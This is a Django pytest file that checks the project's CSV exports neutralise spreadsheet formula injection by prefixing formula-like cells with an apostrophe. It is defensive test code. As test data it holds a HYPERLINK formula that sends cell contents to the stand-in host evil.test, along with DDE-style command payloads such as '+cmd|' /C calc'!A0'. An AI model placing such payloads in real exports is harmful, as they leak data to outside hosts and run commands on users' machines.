"""Every CSV Slipway exports opens safely in a spreadsheet: a cell that would be a formula
starts with an apostrophe."""

import csv
import io

import pytest
from django.utils import timezone

from portal.access.tokens import token_issue
from portal.audit.chain import Actor
from portal.core.exports import safe_cell
from releases.models import Release
from tests.factories import BuiltReleaseFactory, UserFactory, member, service_path

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("https://evil.test/?"&A1,"open")'


def _rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode())))


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+2", "'=1+2"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("plain", "plain"),
        (-5, -5),
        (None, ""),
    ],
)
def test_formula_cells_are_neutralised(value, cell):
    assert safe_cell(value) == cell


def test_a_token_named_like_a_formula_lands_inert_in_the_admins_audit_csv(client):
    root = UserFactory(username="root", is_superuser=True)
    token_issue(user=root, name=FORMULA, actor=Actor.for_user(root))
    client.force_login(root)
    rows = _rows(client.get("/audit/?format=csv&action=api_token."))
    after = rows[1][rows[0].index("after")]
    assert after.startswith("{")  # JSON text: not a formula
    names = [cell for row in rows for cell in row if "HYPERLINK" in cell]
    assert names and all(not cell.startswith(("=", "+", "-", "@")) for cell in names)
    # The API's CSV too
    api = client.get("/api/v1/audit-events/?format=csv&action=api_token.")
    assert all(
        not cell.startswith("=") for row in _rows(api) for cell in row if "HYPERLINK" in cell
    )


def test_a_build_reporting_a_formula_lands_inert_in_the_history_csv(client):
    path = service_path()
    release = BuiltReleaseFactory(service=path.service, ref=FORMULA)
    Release.objects.filter(pk=release.pk).update(
        status="failed", status_reason="@cmd /c calc", finished_at=timezone.now()
    )
    client.force_login(member(path.team, "viewer", "viewer"))
    rows = _rows(client.get("/history/?view=releases&format=csv"))
    header, row = rows[0], rows[1]
    assert row[header.index("ref")] == "'" + FORMULA
    assert row[header.index("reason")] == "'@cmd /c calc"
